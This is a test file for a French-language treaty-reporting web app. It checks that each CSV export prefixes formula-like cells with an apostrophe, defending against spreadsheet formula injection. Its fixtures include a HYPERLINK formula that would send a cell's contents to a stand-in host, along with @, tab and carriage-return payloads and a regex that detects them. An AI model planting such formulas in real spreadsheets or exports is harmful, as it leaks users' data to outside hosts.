import request from 'supertest';
import { parse } from 'csv-parse/sync';
import type { Express } from 'express';
import type { Db } from '../../db/client';
import { withAudit } from '../../db/queries/audit';
import { answers, states } from '../../db/schema';
import { importFiles, type ImportFile } from '../../server/domain/exchange/import';
import { publishEverything } from '../helpers/context';
import { csrfTokenOf, signedInAgent, type Agent } from '../helpers/session';
import { INTERSESSIONAL, meetingApp } from './meetings/fixture';

/**
 * No CSV the dashboard serves lets a spreadsheet run a formula (README.md#formulas-in-csv-files):
 * text planted through the web form and through an import comes out with a leading
 * apostrophe in every CSV route, and negative numbers stay numbers.
 */

jest.setTimeout(120_000);

const FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1,"Cliquez ici")';
const PLUS = '+33 1 23 45 67 89';
const MINUS = '-5 mines détruites';
const AT = '@SUM(A1:A9)';
const TAB = '\tsource tabulée';
const CR = '\rAfghanistan';
const AT_NAME = '@Cambodge';
const REASON = '=1+1 relecture';

/** A cell a spreadsheet would take for a formula (or a control character it would act on). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;

/** Every cell of a CSV, read as written: no trimming, so that a leading tab or CR is seen. */
function cellsOf(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: true });
}

/** The cells that would start a formula: none may be left, except numbers (−7.5 is a number). */
function formulaCells(csv: string): string[] {
  return cellsOf(csv)
    .flat()
    .filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
}

function columnOf(csv: string, name: string): string[] {
  const [header, ...rows] = cellsOf(csv);
  const index = header!.indexOf(name);
  if (index < 0) throw new Error(`no column ${name} in ${header!.join(',')}`);
  return rows.map((r) => r[index]!);
}

const file = (name: string, lines: string[]): ImportFile => ({ name, content: lines.join('\n') + '\n' });

/** As `npm run import` does: in one transaction, recorded as the command line's. */
function importAsCli(db: Db, files: ImportFile[]) {
  const result = withAudit(db, { userId: null, label: 'import en ligne de commande (test)', origin: 'cli' }, (tx) =>
    importFiles(tx, files, {}),
  );
  if (!result.ok) throw new Error(JSON.stringify(result));
}

async function postReport(agent: Agent, year: number, iso3: string, fields: Record<string, string>) {
  const url = `/espace/saisie/${year}/${iso3}`;
  const page = await agent.get(url).expect(200);
  const version = /name="version" value="([0-9]+)"/.exec(page.text)![1]!;
  return agent
    .post(url)
    .type('form')
    .send({ _csrf: csrfTokenOf(page.text), version, ...fields });
}

describe('CSV files never carry a live spreadsheet formula', () => {
  let app: Express;
  let db: Db;
  let admin: Agent;
  let meetingUrl: string;

  beforeAll(async () => {
    const fixture = await meetingApp();
    app = fixture.app;
    db = fixture.db;
    // Planted by an import: States' names beginning with a carriage return and « @ », a note beginning with
    // « @ », a source beginning with a tab (written with the prefix, the only way a cell keeps a
    // leading tab), and figures that fall, for a negative delta.
    importAsCli(db, [
      file('states.csv', ['iso3,name_fr,name_en,party', `AFG,"'${CR}",Afghanistan,yes`, `KHM,${AT_NAME},Cambodia,yes`]),
      file('answers.csv', [
        'year,state,indicator,answer,source,note',
        `2025,KHM,10.1,yes,"'${TAB}",${AT}`,
        '2025,COL,10.1,no,,',
        '2025,AFG,10.1,no,,',
      ]),
      file('figures.csv', ['year,indicator,value,denominator', '2025,5.3,12,', '2026,5.3,4.5,']),
    ]);
    // Planted through the web form of a report.
    admin = await signedInAgent(app, 'admin@example.org');
    const saved = await postReport(admin, 2026, 'COL', {
      received_on: '2026-03-14',
      used_reporting_guide: 'yes',
      'answer:10.1': 'yes',
      'source:10.1': PLUS,
      'note:10.1': FORMULA,
      'answer:11.1': 'no',
      'note:11.1': MINUS,
      reason: REASON,
    });
    expect(saved.status).toBe(303);
    publishEverything(db);
    const member = await signedInAgent(app, 'membre@example.org');
    const created = await member
      .post('/espace/reunions')
      .type('form')
      .send({ _csrf: await member.csrf(), ...INTERSESSIONAL })
      .expect(303);
    meetingUrl = created.headers.location!.replace(/[?#].*$/, '');
  });

  test('the import took the prefix off: what is stored is what was meant', () => {
    const names = db.select().from(states).all();
    expect(names.find((s) => s.iso3 === 'AFG')?.nameFr).toBe(CR);
    expect(names.find((s) => s.iso3 === 'KHM')?.nameFr).toBe(AT_NAME);
    const sources = db
      .select()
      .from(answers)
      .all()
      .map((a) => a.source);
    expect(sources).toEqual(expect.arrayContaining([TAB, PLUS]));
  });

  test('the open data: every answer file shows the planted texts as text, and nothing else starts a formula', async () => {
    const files = [
      '/donnees/reponses.csv',
      '/donnees/publications/2026/revision-1/reponses.csv',
      '/donnees/publications/2025/revision-1/reponses.csv',
      '/donnees/echange/answers.csv',
    ];
    const bodies = await Promise.all(
      files.map((url) =>
        request(app)
          .get(url)
          .expect(200)
          .then((r) => r.text),
      ),
    );
    for (const body of bodies) expect(formulaCells(body)).toEqual([]);

    const [all, rev2026, rev2025, exchange] = bodies as [string, string, string, string];
    expect(columnOf(all, 'note')).toEqual(expect.arrayContaining([`'${AT}`, `'${FORMULA}`, `'${MINUS}`]));
    expect(columnOf(all, 'source')).toEqual(expect.arrayContaining([`'${TAB}`, `'${PLUS}`]));
    expect(columnOf(all, 'state_name')).toEqual(expect.arrayContaining([`'${CR}`, `'${AT_NAME}`]));
    expect(columnOf(rev2026, 'note')).toEqual(expect.arrayContaining([`'${FORMULA}`, `'${MINUS}`]));
    expect(columnOf(rev2025, 'source')).toContain(`'${TAB}`);
    expect(columnOf(exchange, 'note')).toEqual(expect.arrayContaining([`'${AT}`, `'${FORMULA}`, `'${MINUS}`]));
  });

  test('the exchange files of the public download: the State’s name too', async () => {
    for (const name of ['states', 'populations', 'reports', 'answers', 'figures']) {
      const body = (await request(app).get(`/donnees/echange/${name}.csv`).expect(200)).text;
      expect(formulaCells(body)).toEqual([]);
      if (name === 'states') expect(columnOf(body, 'name_fr')).toEqual(expect.arrayContaining([`'${CR}`, `'${AT_NAME}`]));
    }
  });

  test('the indicator files: a fall is a negative number, written as a number, without the prefix', async () => {
    const files = ['/donnees/indicateurs.csv', '/donnees/publications/2026/revision-1/indicateurs.csv', '/indicators/5.3/donnees.csv'];
    for (const url of files) {
      const body = (await request(app).get(url).expect(200)).text;
      expect(formulaCells(body)).toEqual([]);
      const [header, ...rows] = cellsOf(body);
      const row = rows.find((r) => r[header!.indexOf('indicator')] === '5.3' && r[header!.indexOf('year')] === '2026')!;
      expect(row[header!.indexOf('value')]).toBe('4.5');
      expect(row[header!.indexOf('delta')]).toBe('-7.5');
    }
  });

  test('the journal: the reason typed in the form comes out as text', async () => {
    const body = (await admin.get('/espace/journal.csv').expect(200)).text;
    expect(formulaCells(body)).toEqual([]);
    expect(columnOf(body, 'raison')).toContain(`'${REASON}`);
  });

  test('the speakers’ list and the agenda of a meeting: the State’s name as text', async () => {
    const speakers = (await admin.get(`${meetingUrl}/orateurs.csv`).expect(200)).text;
    expect(formulaCells(speakers)).toEqual([]);
    expect(columnOf(speakers, 'etat')).toEqual(expect.arrayContaining([`'${CR}`, `'${AT_NAME}`]));
    const agenda = (await admin.get(`${meetingUrl}/ordre-du-jour.csv`).expect(200)).text;
    expect(formulaCells(agenda)).toEqual([]);
  });
});
